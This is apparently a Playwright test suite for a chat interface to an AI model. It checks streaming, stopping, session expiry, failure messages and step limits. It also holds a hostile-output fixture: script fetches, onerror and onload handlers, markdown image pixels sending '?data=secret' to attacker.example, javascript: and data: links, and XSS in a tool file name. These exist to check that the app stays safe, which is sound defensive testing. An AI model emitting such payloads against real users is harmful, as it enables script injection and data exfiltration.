import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import type { Page } from 'playwright-core';
import { accessible, closeBrowser, ModelServer, Server, Visitor, type Reply } from './harness.ts';

// A model that misbehaves, by a script over a provider's wire: slow, stopped, failing, cut, and hostile.

const model = new ModelServer();
let server: Server;
let visitor: Visitor;
let page: Page;

before(async () => {
  await model.play([{ text: 'ready' }]);
  server = await Server.start({ model, config: 'turns: {steps: 8}\n' });
  visitor = await Visitor.of(server, await server.person('underwriter', 'Robin Marsh'));
  page = visitor.page;
});

after(async () => {
  await closeBrowser();
  await server.close();
  await model.close();
});

const box = (p: Page) => p.getByRole('textbox', { name: 'Your question' });

async function converse(replies: Reply[], question = 'Look at this') {
  await model.play(replies);
  await page.getByRole('button', { name: 'New conversation' }).click();
  await page.getByRole('combobox', { name: 'Model' }).selectOption('openai');
  await box(page).fill(question);
  await box(page).press('Enter');
}

const slow: Reply = { text: 'slow words '.repeat(400), every: 20_000_000, piece: 11 };
const ended = () => page.getByRole('button', { name: 'Ask again' }).last().waitFor({ timeout: 60_000 });

// What a document or a model may try. The host below must never be asked for anything.
const hostile = `Results <script>fetch('https://attacker.example/a')</script> <img src="https://attacker.example/b.png" onerror="alert(1)">
<svg onload="alert(2)"><use href="https://attacker.example/c.svg#x"/></svg> <iframe src="https://attacker.example/d"></iframe>
<style>body{background:url(https://attacker.example/e)}</style> <link rel="prefetch" href="https://attacker.example/f">

![pixel](https://attacker.example/g.png?data=secret) ![data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDMpIi8+)

[run](javascript:alert(4)) [data](data:text/html;base64,PHNjcmlwdD5hbGVydCg1KTwvc2NyaXB0Pg==) [vb](vbscript:msgbox(6)) [hidden](https://attacker.example/h?data=secret)
[https://northgate.example/report](https://attacker.example/i) [https://northgate.example](https://northgate.example@attacker.example/j)
<https://attacker.example/k> [relative](/api/session) [protocol](//attacker.example/l)

| a | b |
| --- | --- |
| ![cell](https://attacker.example/m.png) | [x](javascript:alert(7)) |
`;

test('hostile text neither runs nor fetches, and links say where they lead', async () => {
  let alerts = 0;
  page.on('dialog', (d) => (alerts++, void d.dismiss()));
  await converse([{ text: hostile }]);
  await ended();
  await page.waitForTimeout(500);
  assert.equal(alerts, 0);
  assert.deepEqual(visitor.foreign(), []);
  const answer = page.locator('.answer');
  assert.equal(await answer.locator('script, img, svg:not(.icon), iframe, style, link, object, embed, form').count(), 0);
  const links = await answer.locator('.prose a').evaluateAll((all) => all.map((a) => ({ href: a.getAttribute('href'), rel: a.getAttribute('rel'), after: a.nextElementSibling?.textContent ?? '' })));
  assert.ok(links.length >= 4);
  for (const l of links) {
    assert.match(l.href ?? '', /^https:\/\/attacker\.example\//);
    assert.match(l.rel ?? '', /noreferrer/);
    assert.match(l.after, /attacker\.example/, 'a link hides its target');
  }
  assert.deepEqual(visitor.faults, []);
  await visitor.shot('chat-hostile');
  assert.deepEqual(await accessible(page), []);
});

test('hostile tool input, a hostile question and a hostile file name are text', async () => {
  await converse(
    [{ calls: [{ id: 'c1', name: 'write_file', input: { path: '/workspace/artifacts/x<img src=x onerror=alert(1)>.txt', content: '<script>alert(2)</script>' } }] }, { text: 'done' }],
    '<img src=https://attacker.example/q onerror=alert(8)>',
  );
  await ended();
  await page.getByRole('button', { name: /^write_file/ }).click();
  assert.deepEqual(visitor.foreign(), []);
  assert.equal(await page.locator('.message img').count(), 0);
  assert.deepEqual(visitor.faults, []);
});

test('text streams; another tab sees it and stops it', async () => {
  await converse([{ ...slow, text: 'slow words '.repeat(4000) }]); // longer than a second tab needs on a busy machine
  await page.getByText('slow words').first().waitFor();
  await visitor.shot('chat-streaming');
  const other = await visitor.tab();
  await other.goto(page.url());
  await other.getByText('slow words').first().waitFor();
  await other.getByRole('button', { name: 'Stop' }).click();
  for (const p of [page, other]) await p.getByText('This turn was stopped before its end.').waitFor();
  await visitor.shot('chat-stopped');
  assert.deepEqual(await accessible(page), []);
  await other.close();
});

test('a message sent while it works is shown and waits for the next step', async () => {
  await converse([{ ...slow, calls: [{ id: 'c1', name: 'list_files', input: {} }] }, { text: 'Both were read.' }]);
  await page.getByText('slow words').first().waitFor();
  await box(page).fill('And this too');
  await box(page).press('Enter');
  await page.locator('.question', { hasText: 'And this too' }).waitFor();
  await page.getByText('Both were read.').waitFor({ timeout: 60_000 });
  await ended();
  assert.equal(await page.locator('.question').count(), 2);
});

test('a session that ends in mid-stream: sign in over the page and go on', async () => {
  await converse([slow]);
  await page.getByText('slow words').first().waitFor();
  await visitor.context.clearCookies();
  await server.kill();
  await server.up();
  const dialog = page.getByRole('dialog', { name: 'Your session has ended' });
  await dialog.waitFor({ timeout: 40_000 });
  await visitor.shot('chat-expired');
  assert.deepEqual(await accessible(page), []);
  await dialog.getByLabel('Password').fill('correct horse battery staple');
  await dialog.getByRole('button', { name: 'Sign in' }).click();
  await dialog.waitFor({ state: 'hidden' });
  await ended();
  const text = (await page.locator('.answer .prose').innerText()).trim();
  assert.equal(text, slow.text!.trim());
});

test('a model that fails, a system that fails and a reply that was cut are told apart', async () => {
  await converse([{ fault: 'refuse', text: 'no' }]);
  await page.getByText('The model failed').waitFor({ timeout: 60_000 });
  await visitor.shot('chat-model-failed');
  assert.deepEqual(await accessible(page), []);
  await converse([{ fault: 'bad_key' }]);
  await page.getByText('The system failed').waitFor({ timeout: 60_000 });
  await visitor.shot('chat-system-failed');
  assert.deepEqual(await accessible(page), []);
});

test('a turn that reaches a limit is shown as cut short, with why and with what was saved', async () => {
  const look = (id: string): Reply => ({ calls: [{ id, name: 'list_files', input: {} }] });
  const file = { id: 'c1', name: 'write_file', input: { path: '/workspace/artifacts/half.csv', content: 'unit,value\n1,2\n' } };
  // The turn's last words are asked for as a question of their own, which a script answers from its beginning.
  await converse([{ text: 'Half of it is in half.csv.', calls: [file] }, look('c2'), look('c3'), look('c4'), look('c5')]);
  const outcome = page.getByRole('note').filter({ hasText: 'Cut short: this answer is not complete' });
  await outcome.waitFor({ timeout: 60_000 });
  const shown = async () => {
    await outcome.getByText('the limit of 8 steps').waitFor();
    assert.match(await outcome.innerText(), /Ask it to go on, or ask about a smaller part\.[^]*Saved: the text above, \d finished steps and 1 file\./);
    await page.getByText('Half of it is in half.csv.').nth(1).waitFor();
    await page.getByRole('link', { name: 'Download half.csv' }).waitFor();
  };
  await shown();
  await visitor.shot('chat-cut-short');
  assert.deepEqual(await accessible(page), []);
  await page.reload();
  await shown();
  const download = page.waitForEvent('download');
  await page.getByRole('link', { name: 'Download half.csv' }).click();
  assert.equal((await download).suggestedFilename(), 'half.csv');
});

test('no page failed', () => assert.deepEqual(visitor.faults, []));
